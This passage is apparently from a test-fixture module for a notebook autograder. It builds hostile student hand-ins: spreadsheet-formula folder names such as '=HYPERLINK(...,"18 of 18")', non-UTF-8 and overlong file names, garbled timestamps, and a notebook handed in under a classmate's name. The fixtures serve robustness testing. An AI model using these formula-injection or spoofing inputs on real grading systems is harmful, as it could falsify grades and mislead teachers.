    (student / chapters[1].filename).write_text(json.dumps(notebook))


def a_name_that_is_not_utf8(folder, chapters, given):
    """Chapter 1 wrong, beside a notebook whose file name is not UTF-8 (a lone surrogate when read)."""
    import os
    from course.grader.demo_class import Edition
    one = chapters[1]
    student = folder / "a-name-that-is-not-utf8"
    student.mkdir()
    write(student / one.filename, wrong(Edition(one, given[one.stem])).notebook)
    with open(os.fsencode(student) + b"/notes-\xff.ipynb", "w") as handle:
        handle.write('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')


def formula_name(name):
    """A student named as a spreadsheet formula, with chapter 1 wrong."""
    def build(folder, chapters, given):
        from course.grader.demo_class import Edition
        one = chapters[1]
        (folder / name).mkdir()
        write(folder / name / one.filename, wrong(Edition(one, given[one.stem])).notebook)
    return build


FORMULAS = ('=HYPERLINK("#top","18 of 18")', "+1+1", "-1+1", "@SUM(1,1)")


def write(path, notebook):
    import nbformat
    nbformat.write(notebook, path)


LAYOUTS = {"late-copy-in-another-folder": late_copy_in_another_folder,
           "copies-of-one-chapter": copies_of_one_chapter,
           "a-huge-cell": a_huge_cell,
           "a-name-that-is-not-utf8": a_name_that_is_not_utf8,
           **{name: formula_name(name) for name in FORMULAS}}


# attack-28's hand-ins that are not cheats of the answers: a name, a timestamp, a classmate's name.
# make grade runs with DUE = "01=" + DUE_01; {what: build(folder, chapters, given)}.
DUE_01 = "2026-03-05 17:00"
LONG_NAME = "\U0001F600" * 63     # a folder name of 252 bytes: its feedback file's name was 256


def long_name(folder, chapters, given):
    from course.grader.demo_class import Edition
    one = chapters[1]
    (folder / LONG_NAME).mkdir()
    write(folder / LONG_NAME / one.filename, wrong(Edition(one, given[one.stem])).notebook)


def stamped(name, stamp):
    """Chapter 1 all right, in nbgrader's layout, with this timestamp.txt (bytes)."""
    def build(folder, chapters, given):
        from course.grader.demo_class import Edition
        one = chapters[1]
        (folder / name / one.stem).mkdir(parents=True)
        write(folder / name / one.stem / one.filename, Edition(one, given[one.stem]).all_right().notebook)
        (folder / name / one.stem / "timestamp.txt").write_bytes(stamp)
    return build


def classmates_name(folder, chapters, given):
    """victim/ all right, and beside it victim.ipynb all wrong, handed in by someone else."""
    from course.grader.demo_class import Edition
    one = chapters[1]
    (folder / "victim").mkdir()
    write(folder / "victim" / one.filename, Edition(one, given[one.stem]).all_right().notebook)
    write(folder / "victim.ipynb", wrong(Edition(one, given[one.stem])).notebook)


ATTACK_28 = {"long-name": long_name,
             "padded-stamp": stamped("padded-stamp", b"2026-03-09 10:00:00.000000 UTC" + b" " * 100 + b"\n"),
             "garbled-stamp": stamped("garbled-stamp", b"the ninth of March\n"),
             "victim": classmates_name}
